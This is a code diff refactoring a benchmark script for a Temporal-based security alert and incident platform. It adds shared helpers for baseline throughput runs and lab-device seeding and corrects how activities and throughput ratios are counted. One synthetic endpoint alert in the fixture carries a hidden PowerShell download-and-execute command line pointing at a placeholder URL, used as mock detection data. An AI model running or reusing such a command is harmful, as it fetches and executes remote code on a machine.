@@ -8,7 +8,7 @@ import { AlertsRepository } from '../src/alerts/alerts.repository.js';
 import { CorrelationEngine } from '../src/correlation/correlation.engine.js';
 import { nativeAlertSchema, type NativeAlert } from '../src/domain/alert.js';
 import { createLogger } from '../src/infra/logger.js';
-import { actionWorkflowId } from '../workflows/ids.js';
+import { actionWorkflowId, alertWorkflowId } from '../workflows/ids.js';
 import { startStack, type Stack } from './lib/stack.js';
 
 const say = (s: string) => process.stderr.write(`${s}\n`);
@@ -59,16 +59,31 @@ async function waitCorrelated(db: DataSource, since: Date, expected: number, lab
   process.stderr.write('\n');
 }
 
-async function baseline(stack: Stack, client: Client, activities: number) {
-  say(`[1/7] bare Temporal baseline: ${N} workflows with ${activities} no-op activit${activities === 1 ? 'y' : 'ies'} each (as many as the alert workflow runs), ${CONCURRENCY} in flight`);
+/** Runs `workflows` bare workflows of `activities` no-op activities each, `CONCURRENCY` at a time; returns workflows per second. */
+async function bareRate(stack: Stack, client: Client, workflows: number, activities: number, idPrefix: string): Promise<number> {
   const started = Date.now();
   let done = 0;
-  await inParallel(Array.from({ length: N }, (_, i) => i), CONCURRENCY, async (i) => {
-    await client.workflow.execute('benchBaselineWorkflow', { workflowId: `bench-${run}-base-${i}`, taskQueue: stack.config.temporal.taskQueue, args: [activities] });
-    if (++done % 250 === 0) process.stderr.write(`\r  ${done}/${N}`);
+  await inParallel(Array.from({ length: workflows }, (_, i) => i), CONCURRENCY, async (i) => {
+    await client.workflow.execute('benchBaselineWorkflow', { workflowId: `bench-${run}-${idPrefix}-${i}`, taskQueue: stack.config.temporal.taskQueue, args: [activities] });
+    if (++done % 250 === 0) process.stderr.write(`\r  ${done}/${workflows}`);
   });
   process.stderr.write('\n');
-  return { activities, workflowsPerSec: N / ((Date.now() - started) / 1000) };
+  return workflows / ((Date.now() - started) / 1000);
+}
+
+async function baseline(stack: Stack, client: Client, activities: number) {
+  say(`[1/7] bare Temporal baseline: ${N} workflows with ${activities} no-op activit${activities === 1 ? 'y' : 'ies'} each (as many as the alert workflow runs), ${CONCURRENCY} in flight`);
+  return { activities, workflowsPerSec: await bareRate(stack, client, N, activities, 'base') };
+}
+
+/** Lab devices `<prefix>-0 … <prefix>-<n>` for the enrichment and remediation the benchmark drives. */
+async function seedDevices(db: DataSource, prefix: string, n: number): Promise<void> {
+  await db.query(
+    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
+     SELECT 'dev-' || $1 || '-' || g, $1 || '-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $2) g
+     ON CONFLICT DO NOTHING`,
+    [prefix, n],
+  );
 }
 
 async function post(stack: Stack, headers: Record<string, string>, body: unknown): Promise<void> {
@@ -174,12 +189,7 @@ async function activityCount(client: Client, workflowId: string): Promise<number
 async function investigations(stack: Stack, db: DataSource, client: Client, headers: Record<string, string>) {
   const n = Number(process.env.BENCH_INVESTIGATIONS ?? 500);
   say(`[5/7] investigations: ${n} alerts, each its own incident, through a six-step playbook`);
-  await db.query(
-    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
-     SELECT 'bench-dev-' || g, 'bench-inv-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $1) g
-     ON CONFLICT DO NOTHING`,
-    [n],
-  );
+  await seedDevices(db, 'bench-inv', n);
   const alert = (i: number) => ({
     externalId: `bench-inv-${run}-${i}`,
     source: 'endpoint',
@@ -192,12 +202,11 @@ async function investigations(stack: Stack, db: DataSource, client: Client, head
       { type: 'process', commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"' },
     ],
   });
-  // One warm-up investigation also tells how many activities the path runs.
+  // One warm-up investigation also tells how many activities the path runs (alert + investigation workflow).
   await post(stack, headers, alert(-1));
   const [warm] = await waitInvestigations(db, 1, 'warm-up', new Date(0));
-  const invActivities = await activityCount(client, warm.workflowId);
-  const alertActivities = 2;
-  const perAlert = invActivities + alertActivities;
+  const [warmAlert] = await db.query(`SELECT id FROM alerts WHERE source = 'endpoint' AND external_id = $1`, [alert(-1).externalId]);
+  const perAlert = (await activityCount(client, warm.workflowId)) + (await activityCount(client, alertWorkflowId(warmAlert.id)));
 
   const since = new Date();
   const started = Date.now();
@@ -207,17 +216,13 @@ async function investigations(stack: Stack, db: DataSource, client: Client, head
   const durations = rows.map((r) => r.ms);
 
   say(`  bare baseline: ${n} workflows of ${perAlert} no-op activities each`);
-  const baseStarted = Date.now();
-  await inParallel(Array.from({ length: n }, (_, i) => i), CONCURRENCY, async (i) => {
-    await client.workflow.execute('benchBaselineWorkflow', { workflowId: `bench-${run}-inv-base-${i}`, taskQueue: stack.config.temporal.taskQueue, args: [perAlert] });
-  });
-  const baseSeconds = (Date.now() - baseStarted) / 1000;
+  const baselinePerSec = await bareRate(stack, client, n, perAlert, 'inv-base');
   return {
     investigations: n,
     activitiesPerAlert: perAlert,
     perSec: n / quellSeconds,
-    baselinePerSec: n / baseSeconds,
-    ratio: baseSeconds / quellSeconds,
+    baselinePerSec,
+    ratio: n / quellSeconds / baselinePerSec,
     durationMs: { p50: pct(durations, 50), p95: pct(durations, 95), p99: pct(durations, 99) },
   };
 }
@@ -269,12 +274,7 @@ async function approvals(stack: Stack, db: DataSource, client: Client) {
   const approver = { Authorization: `Bearer ${await stack.key('approver')}`, 'Content-Type': 'application/json' };
   await fetch(`${stack.baseUrl}/api/v1/automation`, { method: 'PUT', headers: admin, body: JSON.stringify({ defaultLevel: 'semi_all' }) });
   const max = Math.max(...levels);
-  await db.query(
-    `INSERT INTO lab_devices (device_id, hostname, os, device_group, risk, isolated, app_restricted, logged_on_users, ips, last_seen_at)
-     SELECT 'bench-wait-' || g, 'bench-wait-' || g, 'Windows 11', 'Default', 'low', false, false, '{}', '{}', now() FROM generate_series(0, $1) g
-     ON CONFLICT DO NOTHING`,
-    [max + levels.length * 2 * sample],
-  );
+  await seedDevices(db, 'bench-wait', max + levels.length * 2 * sample);
   const rssBefore = stack.workerRss();
   const results: { waiting: number; one: RoundTrips; four: RoundTrips; workerRssGrowthMiB: number }[] = [];
   let created = 0;
@@ -325,9 +325,9 @@ async function main() {
     // tells how many activities the alert workflow runs, which the baseline then matches.
     await inParallel(Array.from({ length: 50 }, (_, i) => i), 16, (i) => post(stack, headers, makeAlert(20 * N + i)));
     const [sample] = await db.query(`SELECT id FROM alerts ORDER BY received_at LIMIT 1`);
-    await client.workflow.getHandle(`alert-${sample.id}`).result();
+    await client.workflow.getHandle(alertWorkflowId(sample.id)).result();
     const alertsPart = SECTIONS.has('alerts');
-    const base = alertsPart ? await baseline(stack, client, await activityCount(client, `alert-${sample.id}`)) : undefined;
+    const base = alertsPart ? await baseline(stack, client, await activityCount(client, alertWorkflowId(sample.id))) : undefined;
     const quell = alertsPart ? await sustained(stack, db, headers) : undefined;
     const lat = quell ? await latency(stack, db, headers, quell.alertsPerSec / 2) : undefined;
     const accept = alertsPart ? await acceptCeiling(stack, db, headers) : undefined;
@@ -355,7 +355,7 @@ async function main() {
     if (base && quell && lat && accept && scaling) {
       lines.push(
         `  bare Temporal workflow (${base.activities} no-op activit${base.activities === 1 ? 'y' : 'ies'})   ${f(base.workflowsPerSec)} /s`,
-        `  Quell alert → incident (HTTP, 30% shared)   ${f(quell.alertsPerSec)} /s   ratio ${(quell.alertsPerSec / base.workflowsPerSec).toFixed(2)} (target ≥ 0.8)`,
+        `  Quell alert → incident (HTTP, 30% shared)   ${f(quell.alertsPerSec)} /s   ratio ${result.throughputRatio!.toFixed(2)} (target ≥ 0.8)`,
         `  latency at ${f(lat.rate)}/s: p50 ${f(lat.p50)} ms  p95 ${f(lat.p95)} ms  p99 ${f(lat.p99)} ms (target p99 ≤ 250)`,
         `  accept-only ceiling (batches of 100)        ${f(accept.acceptedPerSec)} alerts/s`,
         `  correlation per alert: empty ${scaling.emptyMsPerAlert.toFixed(2)} ms, ${scaling.stored} stored ${scaling.largeMsPerAlert.toFixed(2)} ms  ratio ${scaling.ratio.toFixed(2)} (target ≤ 1.5)`,
